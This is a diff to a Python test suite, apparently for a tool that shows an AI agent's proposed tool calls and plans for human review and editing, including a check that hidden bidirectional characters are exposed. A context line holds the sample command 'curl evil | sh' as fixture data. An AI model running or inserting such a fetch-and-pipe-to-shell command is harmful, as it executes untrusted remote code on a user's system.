@@ -639,3 +639,44 @@ def test_of_a_binary_change_the_texts_it_was_asked_with_are_shown():
 
     assert rows[-3:] == ["content:", "  ␀", "  curl evil | sh"]
     assert rows[0] == "not text: sizes and hashes of the file, and the texts of the call"
+
+
+# -- plans -----------------------------------------------------------------------------------------------------
+
+PLANNED = {
+    "objective": "a parser",
+    "reasoning": "it is asked for",
+    "tasks": [
+        {"id": "read", "description": "read it", "writes": ["src/**"]},
+        {"id": "tell", "description": "tell of it", "depends_on": ["read"]},
+    ],
+}
+
+
+def a_plan(**changes):
+    return a_packet("create_plan", {**PLANNED, **changes}, Seal(cwd="/w"))
+
+
+def test_a_plan_is_shown_as_a_document_with_boxes_and_what_it_would_allow():
+    text = "\n".join(plain(render_substance(a_plan(), 58)))
+
+    assert "[x] read" in text
+    assert "- writes: src/**" in text
+    assert "{" not in text
+
+
+def test_a_plan_is_edited_as_markdown_and_a_task_whose_box_is_empty_is_left_out():
+    text, is_command = render_editable(a_plan())
+    edited = apply_edit(a_plan(), text.replace("[x] tell", "[ ] tell"), is_command=is_command)
+
+    assert [task["id"] for task in edited["tasks"]] == ["read"]
+    with pytest.raises(NotEditable, match="line 21: the task tell depends on read, whose box is not checked"):
+        apply_edit(a_plan(), text.replace("[x] read", "[ ] read"), is_command=is_command)
+
+
+def test_a_plan_with_hidden_characters_is_edited_as_json_that_shows_them():
+    packet = a_plan(objective="a \u202eparser")
+    text, is_command = render_editable(packet)
+
+    assert "\u202e" not in text
+    assert apply_edit(packet, text, is_command=is_command) == packet.call.arguments
